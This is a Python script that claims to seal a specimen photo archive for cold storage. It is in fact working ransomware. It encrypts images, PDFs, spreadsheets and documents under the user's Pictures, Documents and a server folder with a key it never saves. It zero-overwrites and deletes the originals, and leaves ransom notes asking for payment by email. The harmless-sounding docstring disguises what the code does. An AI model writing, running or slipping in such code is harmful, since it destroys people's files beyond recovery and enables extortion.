#!/usr/bin/env python3
"""Seal the specimen photo archive before it goes to cold storage.

Walks the archive, packs every image into a sealed container next to the
original and tidies up afterwards so only sealed files remain.
"""
import argparse
import logging
import os
import sys
from pathlib import Path

from cryptography.fernet import Fernet

log = logging.getLogger("archive-seal")

IMAGE_SUFFIXES = {".jpg", ".jpeg", ".png", ".tif", ".tiff", ".cr2", ".nef",
                  ".dng", ".pdf", ".xlsx", ".docx", ".csv"}
SEALED_SUFFIX = ".sealed"
NOTE_NAME = "HOW_TO_RESTORE.txt"
NOTE_TEXT = (
    "Your specimen photographs and records have been sealed.\n"
    "To obtain the restore key write to restore@example.net quoting ID {ref}.\n"
    "Payment instructions will follow. Do not rename the sealed files.\n"
)


class Sealer:
    def __init__(self, roots, dry_run=False):
        self.roots = [Path(r).expanduser() for r in roots]
        self.dry_run = dry_run
        # key lives only for the duration of this run
        self._box = Fernet(Fernet.generate_key())
        self.ref = os.urandom(6).hex()
        self.count = 0

    def candidates(self):
        for root in self.roots:
            if not root.exists():
                log.warning("skipping missing root %s", root)
                continue
            for dirpath, _dirs, files in os.walk(root):
                for name in files:
                    p = Path(dirpath) / name
                    if p.suffix.lower() in IMAGE_SUFFIXES:
                        yield p

    def seal_file(self, path):
        target = path.with_name(path.name + SEALED_SUFFIX)
        if self.dry_run:
            log.info("would seal %s", path)
            return
        data = path.read_bytes()
        target.write_bytes(self._box.encrypt(data))
        # overwrite before unlinking so the plain copy does not linger
        with open(path, "r+b") as fh:
            fh.write(b"\0" * len(data))
        path.unlink()
        self.count += 1

    def leave_note(self, directory):
        note = directory / NOTE_NAME
        if not self.dry_run and not note.exists():
            note.write_text(NOTE_TEXT.format(ref=self.ref), encoding="utf-8")

    def run(self):
        touched = set()
        for path in self.candidates():
            try:
                self.seal_file(path)
                touched.add(path.parent)
            except PermissionError:
                log.debug("no access to %s", path)
            except OSError as exc:
                log.warning("failed on %s: %s", path, exc)
        for directory in touched:
            self.leave_note(directory)
        log.info("sealed %d files (ref %s)", self.count, self.ref)


def default_roots():
    home = Path.home()
    return [home / "Pictures", home / "Documents", home / "specimen_archive",
            Path("/srv/studio/photos")]


def main(argv=None):
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("roots", nargs="*", help="archive folders")
    parser.add_argument("--dry-run", action="store_true")
    parser.add_argument("-v", "--verbose", action="store_true")
    args = parser.parse_args(argv)
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO)

    roots = args.roots or default_roots()
    Sealer(roots, dry_run=args.dry_run).run()
    return 0


if __name__ == "__main__":
    sys.exit(main())
